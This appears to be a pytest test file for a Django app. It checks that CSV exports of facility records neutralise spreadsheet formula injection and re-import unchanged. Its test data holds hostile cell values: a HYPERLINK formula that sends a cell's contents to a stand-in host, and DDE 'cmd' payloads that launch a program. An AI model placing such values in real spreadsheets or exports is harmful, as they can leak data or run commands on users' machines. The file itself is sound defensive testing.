"""The CSV export cannot carry a formula into a spreadsheet, and still imports back unchanged (issue 12)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from facilities import formats
from facilities.formats import NATIVE_COLUMNS, write_native
from facilities.models import Facility
from facilities.queries import export_queryset
from facilities.services import facilities_import
from tests.factories import FacilityFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "name2": "+1+cmd|' /C calc'!A0",
    "street1": "-2+3+cmd|' /C calc'!A0",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "street2": "\t=1+1",
    "notes": "\r=1+1",
    "phone": "+1 434-979-8871",
    "admissions_contact": "'=already quoted by hand",
    "admissions_hours": "'plain text with a quote",
}


def export_rows() -> list[dict[str, str]]:
    out = io.StringIO()
    write_native(export_queryset(), out)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


def test_no_exported_cell_starts_a_formula():
    FacilityFactory(**HOSTILE)
    (row,) = export_rows()
    for column in NATIVE_COLUMNS:
        cell = row[column]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or column == "longitude", (column, cell)
    assert row["name"] == "'" + HOSTILE["name"]
    assert row["city"] == "'" + HOSTILE["city"]
    assert row["phone"] == "'+1 434-979-8871"
    assert row["longitude"] == "-78.4767000"  # a plain number is no formula: left as it is


def test_the_download_is_neutralised_too(client, dana):
    FacilityFactory(**HOSTILE)
    client.force_login(dana)
    response = client.get(reverse("facilities:facility-export"))
    body = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK" in body and "\n=" not in body and ",=" not in body and ',"=' not in body


def test_a_neutralised_export_imports_back_unchanged():
    facility = FacilityFactory(**HOSTILE)
    out = io.StringIO()
    write_native(export_queryset(), out)
    Facility.objects.all().delete()
    report = facilities_import(data=out.getvalue().encode(), format="native")
    assert report.ok and report.created == 1
    again = Facility.objects.get(external_id=facility.external_id)
    for name, value in HOSTILE.items():
        assert getattr(again, name) == value.strip(), name  # the import strips cells, as it always did
    assert facilities_import(data=out.getvalue().encode(), format="native").unchanged == 1


@pytest.mark.parametrize("cell", ["=1", "'", "''", "'=1", "-1", "-x", "plain", "", "'plain", "@", "\t"])
def test_restore_takes_off_exactly_what_neutralise_added(cell):
    assert formats.restore(formats.neutralise(cell)) == cell


def test_a_hand_made_quote_is_kept_on_import():
    assert formats.restore("'plain") == "'plain"
